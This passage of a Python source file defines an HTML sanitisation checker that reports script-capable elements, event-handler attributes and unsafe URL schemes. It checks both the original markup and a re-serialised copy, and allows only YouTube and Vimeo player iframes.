    r"https://(?:www\.youtube-nocookie\.com/embed/[\w-]+|player\.vimeo\.com/video/\d+\?dnt=1)\Z"
)


def dangers(source: str) -> list[str]:
    """Return what in some HTML could run, as a browser reads it the first time and after a copy."""
    tree = tree_of(source)
    copy = html5lib.serialize(tree, quote_attr_values="always", omit_optional_tags=False)
    return [*_dangers_in(tree), *_dangers_in(tree_of(copy))]


def _dangers_in(tree: Any) -> list[str]:
    found = []
    for node in tree.iter():
        if not isinstance(node.tag, str):
            continue
        tag = node.tag.rpartition("}")[2]
        player = tag == "iframe" and _PLAYER.match(node.get("src", ""))
        if tag in _ELEMENTS and not player:
            found.append(f"<{tag}>")
        found += [f"{tag} {name}={value!r}" for name, value in node.attrib.items() if _bad(str(name), value)]
    return found


def _bad(name: str, value: str) -> bool:
    name = name.rpartition("}")[2].rpartition(":")[2].lower()
    if name.startswith("on") or name in ("srcdoc", "http-equiv", "style"):
        return True
    if name == "srcset":
        return any(_bad("src", url) for url in re.split(r",?[ \t\n\f\r]+", value))
    url = re.sub(r"[\t\n\r]", "", value).lstrip("".join(map(chr, range(33))))
    return name in _URL_ATTRIBUTES and bool(_SCHEME.match(url)) and not _HARMLESS.match(url)
